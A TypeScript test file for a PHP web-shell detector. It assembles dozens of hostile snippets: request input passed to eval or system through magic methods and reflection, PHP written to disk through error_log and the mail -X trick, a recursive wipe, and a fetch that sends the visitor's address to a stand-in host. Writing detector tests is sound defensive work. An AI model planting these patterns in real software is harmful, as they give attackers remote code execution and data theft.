import { describe, expect, it } from 'vitest';
import { followFlow } from '../../../../../src/matching/php/evaluate/follow-flow.ts';
import { judge } from '../../../../../src/matching/php/judge/judge.ts';

// Specimens are put together here from harmless pieces, so that no file of this repository holds one.
const OPEN = ['<', '?php '].join('');
const RUN = ['ev', 'al'].join('');
const SHELL = ['sys', 'tem'].join('');
const POST = ['$_P', 'OST'].join('');
const GET = ['$_G', 'ET'].join('');

function grave(code: string): string[] {
  return judge(followFlow(OPEN + code))
    .filter(({ severity }) => severity === 'critical' || severity === 'high')
    .map(({ rule }) => rule);
}

describe('what PHP calls by itself is followed', () => {
  it.each([
    [
      'the text of an object',
      `class T { public $a; function __toString() { return ${RUN}($this->a); } } $t = new T; $t->a = ${POST}['i']; echo "$t";`,
    ],
    [
      'an entry of an object',
      `class B implements ArrayAccess { function offsetGet($k) { return ${POST}[$k]; } } $b = new B; ${RUN}($b['i']);`,
    ],
    [
      'an entry put into one',
      `class B implements ArrayAccess { function offsetSet($k, $v) { ${RUN}($v); } } $b = new B; $b['a'] = ${POST}['i'];`,
    ],
    [
      'a store of objects',
      `$s = new SplObjectStorage; $o = new stdClass; $s[$o] = ${POST}['i']; foreach ($s as $k) ${RUN}($s[$k]);`,
    ],
    ['a list in the coat of an object', `$a = new ArrayObject(${POST}); ${RUN}($a['i']);`],
    [
      'a loop over an object',
      `class R implements IteratorAggregate { function getIterator(): Iterator { yield from ${POST}; } } foreach (new R as $k => $v) if ($k === 'i') ${RUN}($v);`,
    ],
    [
      'a loop with its own steps',
      `class R implements Iterator { function current() { return ${POST}['i']; } } foreach (new R as $v) ${RUN}($v);`,
    ],
    [
      'what is sent to a generator',
      `function g() { while (true) { $x = yield; ${RUN}($x); } } $g = g(); $g->send(${POST}['i']);`,
    ],
    [
      'a static method of any name',
      `class F { static function __callStatic($n, $a) { return $n(...$a); } } $m = ${GET}['i']; F::$m(${GET}['j']);`,
    ],
    [
      'a method of any name',
      `class F { function __call($n, $a) { return $n(...$a); } } $m = ${GET}['i']; (new F)->$m(${GET}['j']);`,
    ],
    [
      'a closure that is lent to an object',
      `$f = function ($x) { ${RUN}($x); }; $f->call(new stdClass, ${POST}['i']);`,
    ],
    [
      'the page as it goes out',
      `ob_start(function ($page) { return $page . file_get_contents('http://inert.example.test/' . $_SERVER['REMOTE_ADDR']); });`,
    ],
    ['text that Drupal runs', `drupal_eval(${POST}['i']);`],
    ['a closure bound to one', `$f = function ($x) { ${RUN}($x); }; $g = $f->bindTo(new stdClass); $g(${POST}['i']);`],
    ['a function made a closure', `$f = Closure::fromCallable('${SHELL}'); $f->call(new stdClass, ${POST}['i']);`],
  ])('%s', (_, code) => {
    expect(grave(code)).not.toEqual([]);
  });

  it.each([
    [
      'texts and entries of honest objects',
      `class T { public $a; function __toString() { return htmlspecialchars($this->a); } function offsetGet($k) { return $this->a; } } $t = new T; $t->a = ${POST}['i']; echo "$t", $t['a'];`,
    ],
    ['generators', `function g() { while (true) { $x = yield; echo strlen($x); } } $g = g(); $g->send(${POST}['i']);`],
    [
      'generators that call each other without an end',
      'function g() { $x = yield; h()->send($x); } function h() { $x = yield; g()->send($x); } g()->send(1);',
    ],
    [
      'loops over all variables',
      `foreach ($GLOBALS as $name => $value) if (!in_array($name, ['_GET', '_POST'])) unset($GLOBALS[$name]);`,
    ],
  ])('and accuses no %s', (_, code) => {
    expect(grave(code)).toEqual([]);
  });
});

describe('mirrors of what the file declares', () => {
  it.each([
    [
      'invoke a method',
      `class M { private function x($c) { return popen($c, 'r'); } } $r = new ReflectionMethod('M', 'x'); $r->setAccessible(true); $r->invoke(new M, ${POST}['i']);`,
    ],
    [
      'invoke it with a list',
      `class M { function x($c) { return ${RUN}($c); } } (new ReflectionMethod('M::x'))->invokeArgs(new M, [${POST}['i']]);`,
    ],
    [
      'give a closure',
      `class M { function x($c) { return ${RUN}($c); } } $f = (new ReflectionMethod('M', 'x'))->getClosure(new M); $f(${POST}['i']);`,
    ],
    [
      'give constants',
      `class N { const A = '${SHELL}'; } $c = (new ReflectionClass('N'))->getConstants(); $c['A'](${POST}['i']);`,
    ],
    ['give a comment', `/** x */ class N {} $f = (new ReflectionClass('N'))->getDocComment(); $f(${POST}['i']);`],
  ])('%s', (_, code) => {
    expect(grave(code)).not.toEqual([]);
  });

  it('are how containers make what they are asked for', () => {
    const made = `class C { function get($n) { $r = new ReflectionClass($n); return $r->newInstanceArgs([]); } }`;
    expect(grave(`${made} class D { const A = 1; } print_r((new ReflectionClass('D'))->getConstants());`)).toEqual([]);
  });
});

describe('the request by other ways', () => {
  it.each([
    ['the query of the address', `parse_str($_SERVER['QUERY_STRING'] ?? '', $q); ${RUN}($q['i']);`],
    ['all variables', `foreach ($GLOBALS as $n => $v) if ($n === '_GET') ${SHELL}($v['i']);`],
    ['a list of patterns', `preg_replace_callback_array(['/^(.+)$/' => fn($m) => ${RUN}($m[1])], ${POST}['i']);`],
    [
      'a record of a letter',
      `mail('a@example.test', '', ${POST}['i'], '', '-OQueueDirectory=/tmp -X/var/www/cache.php');`,
    ],
  ])('is %s', (_, code) => {
    expect(grave(code)).not.toEqual([]);
  });

  it.each([
    ['addresses', `parse_str($_SERVER['QUERY_STRING'], $q); echo htmlspecialchars($q['page']);`],
    ['letters', `mail('a@example.test', 'Form', ${POST}['text'], 'From: b@example.test', '-f b@example.test');`],
  ])('and no alarm for %s', (_, code) => {
    expect(grave(code)).toEqual([]);
  });
});

describe('one function out of several', () => {
  it.each([
    [
      'a list that the request picks from',
      `$do = ['len' => 'strlen', 'go' => '${SHELL}']; echo $do[${GET}['i']](${GET}['j']);`,
    ],
    ['a list without keys', `$f = ['md5', 'sha1', '${SHELL}'][${POST}['i'] ?? 0]; $f(${POST}['j']);`],
    ['a constant in brackets', `const A = 'sys'; const B = A . 'tem'; (B)(${GET}['i']);`],
    [
      'a shell that is told through a pipe',
      `$p = proc_open('/bin/sh', [['pipe', 'r']], $io); fwrite($io[0], ${POST}['i']);`,
    ],
    [
      'a function that a picture names',
      `$e = exif_read_data(__DIR__ . '/a.jpg'); preg_replace_callback('/.*/s', $e['Make'], $e['Model']);`,
    ],
  ])('is followed through %s', (_, code) => {
    expect(grave(code)).not.toEqual([]);
  });

  it.each([
    ['lists of harmless ones', `$do = ['len' => 'strlen', 'up' => 'strtoupper']; echo $do[${GET}['i']](${GET}['j']);`],
    ['lists of words', `$words = ['system' => 'System', 'user' => 'User']; echo $words[${GET}['i']];`],
    [
      'programs that are written in the file',
      `$p = proc_open('/usr/sbin/sendmail -t', [['pipe', 'r']], $io); fwrite($io[0], ${POST}['text']);`,
    ],
    ['pictures', `$e = exif_read_data('a.jpg'); echo htmlspecialchars($e['Model']);`],
  ])('and accuses no %s', (_, code) => {
    expect(grave(code)).toEqual([]);
  });
});

describe('files that are written or removed', () => {
  it.each([
    ['by the record of errors', `error_log('<?php ' . ${POST}['i'], 3, __DIR__ . '/e.php');`],
    ['whole, between tags', `file_put_contents('m.php', '<?php ' . ${POST}['i'] . ' ?>');`],
    [
      'with all that lies below',
      `function wipe($d) { foreach (glob("$d/*") as $f) is_dir($f) ? wipe($f) : unlink($f); rmdir($d); } wipe(${POST}['i']);`,
    ],
    [
      'out of the database by a hook',
      `add_action('init', function () { file_put_contents(get_stylesheet_directory() . '/header.php', get_option('i')); });`,
    ],
  ])('%s', (_, code) => {
    expect(grave(code)).not.toEqual([]);
  });

  it.each([
    ['records of mistakes', `error_log('Wrong: ' . ${POST}['i'], 3, '/var/log/site.log'); error_log(${POST}['i']);`],
    [
      'a cache that is emptied',
      `function wipe($d) { foreach (glob("$d/*") as $f) unlink($f); rmdir($d); } wipe(__DIR__ . '/cache');`,
    ],
    [
      'settings of an installer',
      `file_put_contents('settings.php', "<?php\\n\\$host = '" . addslashes(${POST}['host']) . "';");`,
    ],
  ])('and not %s', (_, code) => {
    expect(grave(code)).toEqual([]);
  });
});
